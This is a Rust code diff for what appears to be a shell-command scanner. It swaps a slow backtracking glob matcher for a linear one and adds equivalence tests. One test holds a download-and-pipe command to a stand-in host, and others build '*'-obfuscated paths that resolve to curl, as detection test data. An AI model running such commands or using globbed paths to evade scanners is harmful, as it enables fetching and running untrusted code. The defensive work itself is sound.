@@ -500,14 +500,96 @@ fn globbed_program(word: &str) -> Option<&'static str> {
 }
 
 /// Whether `pattern` (`?` one byte, `*` any run without `/`) matches `text`.
+///
+/// One pass over the pattern, keeping the set of text positions its prefix
+/// can end at: time `pattern × text`, whatever the pattern. (Trying every
+/// length for every `*` in turn is exponential in the number of `*`s, and a
+/// skill writes the pattern: `/***…/***…/***…` held a scan for minutes.)
 fn glob_matches(pattern: &[u8], text: &[u8]) -> bool {
-    match pattern.split_first() {
-        None => text.is_empty(),
-        Some((b'*', rest)) => (0..=text.iter().position(|&c| c == b'/').unwrap_or(text.len()))
-            .any(|k| glob_matches(rest, &text[k..])),
-        Some((&c, rest)) => {
-            text.first().is_some_and(|&t| (c == b'?' && t != b'/') || c == t)
-                && glob_matches(rest, &text[1..])
+    let mut reach = vec![false; text.len() + 1];
+    reach[0] = true;
+    for &c in pattern {
+        let mut next = vec![false; text.len() + 1];
+        for j in 0..=text.len() {
+            if !reach[j] {
+                continue;
+            }
+            if c == b'*' {
+                next[j] = true;
+                let run = text[j..].iter().take_while(|&&t| t != b'/').count();
+                next[j + 1..=j + run].fill(true);
+            } else if text.get(j).is_some_and(|&t| (c == b'?' && t != b'/') || c == t) {
+                next[j + 1] = true;
+            }
         }
+        reach = next;
+    }
+    reach[text.len()]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The definition, tried length by length: exponential in the `*`s,
+    /// so only for the short patterns of the comparison below.
+    fn by_backtracking(pattern: &[u8], text: &[u8]) -> bool {
+        match pattern.split_first() {
+            None => text.is_empty(),
+            Some((b'*', rest)) => (0..=text.iter().position(|&c| c == b'/').unwrap_or(text.len()))
+                .any(|k| by_backtracking(rest, &text[k..])),
+            Some((&c, rest)) => {
+                text.first().is_some_and(|&t| (c == b'?' && t != b'/') || c == t)
+                    && by_backtracking(rest, &text[1..])
+            }
+        }
+    }
+
+    /// Every string of length 0..=`max` over `alphabet`.
+    fn all_strings(alphabet: &[u8], max: usize) -> Vec<Vec<u8>> {
+        let mut all = vec![Vec::new()];
+        let mut last = vec![Vec::new()];
+        for _ in 0..max {
+            last = last
+                .iter()
+                .flat_map(|s: &Vec<u8>| alphabet.iter().map(move |&c| [s.as_slice(), &[c]].concat()))
+                .collect();
+            all.extend(last.iter().cloned());
+        }
+        all
+    }
+
+    #[test]
+    fn glob_matching_agrees_with_its_definition_on_every_short_pattern() {
+        let texts = all_strings(b"/ab", 4);
+        for pattern in all_strings(b"/a?*", 5) {
+            for text in &texts {
+                assert_eq!(
+                    glob_matches(&pattern, text),
+                    by_backtracking(&pattern, text),
+                    "{:?} against {:?}",
+                    String::from_utf8_lossy(&pattern),
+                    String::from_utf8_lossy(text)
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn a_glob_of_many_stars_is_read_at_once() {
+        let stars = |n: usize| "*".repeat(n);
+        // 64 bytes, 61 `*`s in three runs: the backtracking match took
+        // minutes on it. Every three-part path matches: ambiguous, kept.
+        let hostile = format!("/{}/{}/{}", stars(20), stars(20), stars(21));
+        assert_eq!(hostile.len(), 64);
+        assert_eq!(globbed_program(&hostile), None);
+        let line = format!("curl -s https://x.example/p | {hostile}");
+        assert_eq!(normalize(&line, &mut Vars::default()).text, line);
+        // As many `*`s where one program fits is that program.
+        let curl = format!("/u{}/b{}/c{}l", stars(20), stars(20), stars(17));
+        assert_eq!(curl.len(), 64);
+        assert_eq!(globbed_program(&curl), Some("/usr/bin/curl"));
+        // One byte longer is not read at all (the length bound).
+        assert_eq!(globbed_program(&format!("{curl}*")), None);
     }
 }
